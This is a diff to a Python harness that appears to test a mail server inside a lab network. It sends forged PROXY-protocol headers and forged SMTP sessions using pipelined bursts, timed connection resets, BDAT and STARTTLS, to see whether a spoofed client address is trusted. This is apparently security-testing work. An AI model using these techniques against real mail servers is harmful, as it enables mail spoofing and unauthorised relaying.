@@ -40,7 +40,7 @@ def fresh():
 
 # Named in main.cf: what each would gain if it were believed.
 NETWORK_CLIENT = "198.18.5.5"  # in mynetworks
-XCLIENT_CLIENT = "198.18.6.6"  # in smtpd_authorized_xclient_hosts, if set
+XCLIENT_CLIENT = "198.18.6.6"  # in smtpd_authorized_xclient_hosts, if any is
 
 HEADERS = {
     "v1-loopback": lambda: v1("127.0.0.1"),
@@ -61,19 +61,25 @@ HEADERS = {
 }
 
 _CONTENT = b"Subject: forged\r\n\r\nforged\r\n"
-_MAIL = (f"EHLO evil.example\r\nMAIL FROM:<{SENDER}>\r\n"
-         f"RCPT TO:<{RECIPIENT}>\r\n").encode()
-_BY_DATA = _MAIL + b"DATA\r\n" + _CONTENT + b".\r\nQUIT\r\n"
-_BY_BDAT = _MAIL + b"BDAT %d LAST\r\n" % len(_CONTENT) + _CONTENT + b"QUIT\r\n"
+_DATA = b"DATA\r\n" + _CONTENT + b".\r\nQUIT\r\n"
+_BDAT = b"BDAT %d LAST\r\n" % len(_CONTENT) + _CONTENT + b"QUIT\r\n"
 
 
 class Session:
     """What is sent and what came back, as far as it was read."""
 
-    def __init__(self, server, source=None, timeout=8):
-        self.socket = socket.create_connection(
-            server, timeout, source_address=(source, 0) if source else None)
+    def __init__(self, server, timeout=8, sender=SENDER):
+        self.socket = socket.create_connection(server, timeout)
+        self.sender = sender
         self.said = b""
+
+    def envelope(self):
+        return (f"MAIL FROM:<{self.sender}>\r\n"
+                f"RCPT TO:<{RECIPIENT}>\r\n").encode()
+
+    def burst(self, content):
+        """A whole session in one piece."""
+        return b"EHLO evil.example\r\n" + self.envelope() + content
 
     def send(self, data):
         with contextlib.suppress(OSError):
@@ -119,7 +125,7 @@ class Session:
 def _talk(session, header, recipient=RECIPIENT, start_tls=False):
     session.send(header)
     session.reply()
-    commands = ["EHLO evil.example", f"MAIL FROM:<{SENDER}>",
+    commands = ["EHLO evil.example", f"MAIL FROM:<{session.sender}>",
                 f"RCPT TO:<{recipient}>", "DATA"]
     if start_tls:
         commands[1:1] = ["STARTTLS"]
@@ -150,20 +156,20 @@ def _start_tls(session, header):
 
 
 def _fin(session, header):
-    session.send(header + _BY_DATA)
+    session.send(header + session.burst(_DATA))
     session.socket.shutdown(socket.SHUT_WR)
     session.read_all()
 
 
 def _open(session, header):
-    session.send(header + _BY_DATA)
+    session.send(header + session.burst(_DATA))
     session.read_all()
 
 
-def _reset_after(seconds, mail):
+def _reset_after(seconds, content):
     def way(session, header):
         session.reset()
-        session.send(header + mail)
+        session.send(header + session.burst(content))
         time.sleep(seconds)
     return way
 
@@ -176,7 +182,7 @@ def _after_greeting(session, header):
     session.send(b"EHLO evil.example\r\n")
     session.reply()
     session.reset()
-    session.send(_BY_BDAT.split(b"\r\n", 1)[1])
+    session.send(session.envelope() + _BDAT)
 
 
 WAYS = {
@@ -185,19 +191,19 @@ WAYS = {
     "starttls": _start_tls,
     "burst-open": _open,
     "burst-fin": _fin,
-    "burst-rst-0": _reset_after(0, _BY_DATA),
-    "burst-rst-1ms": _reset_after(0.001, _BY_DATA),
-    "burst-rst-5ms": _reset_after(0.005, _BY_DATA),
-    "bdat-rst": _reset_after(0, _BY_BDAT),
-    "bdat-rst-5ms": _reset_after(0.005, _BY_BDAT),
+    "burst-rst-0": _reset_after(0, _DATA),
+    "burst-rst-1ms": _reset_after(0.001, _DATA),
+    "burst-rst-5ms": _reset_after(0.005, _DATA),
+    "bdat-rst": _reset_after(0, _BDAT),
+    "bdat-rst-5ms": _reset_after(0.005, _BDAT),
     "bdat-after-greeting": _after_greeting,
 }
 
 
-def attack(network, server, header, way, host="attacker"):
+def attack(network, server, header, way, host="attacker", sender=SENDER):
     """What the attacker was told, in one session; b"" if he was not heard."""
     with network.inside(host):
-        session = Session(server)
+        session = Session(server, sender=sender)
     try:
         WAYS[way](session, HEADERS[header]())
         return session.said
